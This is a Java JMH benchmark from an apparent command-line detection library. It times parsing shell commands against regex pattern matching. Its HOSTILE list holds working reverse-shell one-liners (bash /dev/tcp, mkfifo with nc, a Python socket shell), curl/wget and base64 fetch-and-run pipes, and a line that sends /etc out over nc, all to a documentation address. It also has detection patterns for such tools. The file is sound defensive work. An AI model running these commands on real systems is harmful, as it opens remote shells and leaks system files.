package io.hivesec.examples.bench;

import io.hivesec.detectors.command.CommandLine;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;

/** How long it takes to understand a command line that was not met before, beside looking for thirty patterns in its text. */
@State(Scope.Thread)
@BenchmarkMode(Mode.AverageTime)
@OutputTimeUnit(TimeUnit.MICROSECONDS)
@Warmup(iterations = 3, time = 3)
@Measurement(iterations = 5, time = 3)
@Fork(1)
public class CommandLineBenchmark {
    private static final List<String> PLAIN = List.of(
            "ls -la /srv/app",
            "set -e; cd /app && npm ci --omit=dev && node server.js",
            "apt-get update && apt-get install -y --no-install-recommends curl ca-certificates && rm -rf /var/lib/apt/lists/*",
            "until pg_isready -h db -p 5432; do echo waiting; sleep 1; done",
            "curl -fsS -o /dev/null http://127.0.0.1:8080/healthz",
            "for f in /etc/conf.d/*.conf; do [ -f \"$f\" ] && . \"$f\"; done; exec java -Xmx512m -jar /app/app.jar",
            "tar czf /backup/app-$(date +%F).tgz /srv/app && find /backup -mtime +7 -delete",
            "python3 -c 'import json,sys;print(json.load(sys.stdin)[\"version\"])' < package.json");

    /** What shells, downloads and encodings look like, to addresses that are for documentation. */
    private static final List<String> HOSTILE = List.of(
            "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 443 > /tmp/f",
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"sh\"])'",
            "(curl -s http://203.0.113.9/a.sh || wget -qO- http://203.0.113.9/a.sh) | bash",
            "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo | base64 -d | sh",
            "tar czf - /etc | openssl enc -aes-256-cbc -k x | nc 203.0.113.9 4444");

    /** As rules of regular expressions ask: six shapes in five widths. */
    private static final List<Pattern> PATTERNS = patternsOf(
            "/dev/(?:tcp|udp)/",
            "\\b(?:nc|ncat)\\b.*-e",
            "(?:curl|wget).*\\|.*sh\\b",
            "mkfifo",
            "base64 -d",
            "socket");

    /** Which lines. */
    @Param({"plain", "hostile"})
    public String lines;

    private int next;

    private static List<Pattern> patternsOf(String... shapes) {
        return Stream.of(shapes)
                .flatMap(shape -> IntStream.rangeClosed(1, 5).mapToObj(i -> Pattern.compile(shape + ".{0," + i + "}")))
                .toList();
    }

    private String line() {
        List<String> all = lines.equals("plain") ? PLAIN : HOSTILE;
        // Never the same twice: what is kept of known lines is another question.
        return all.get(next % all.size()) + " #" + next++;
    }

    /** A model of the line. */
    @Benchmark
    public CommandLine understand() {
        return CommandLine.of(List.of("sh", "-c", line()));
    }

    /** Thirty patterns looked for. */
    @Benchmark
    public int patterns() {
        String line = line();
        int found = 0;
        for (Pattern pattern : PATTERNS) {
            found += pattern.matcher(line).find() ? 1 : 0;
        }
        return found;
    }
}
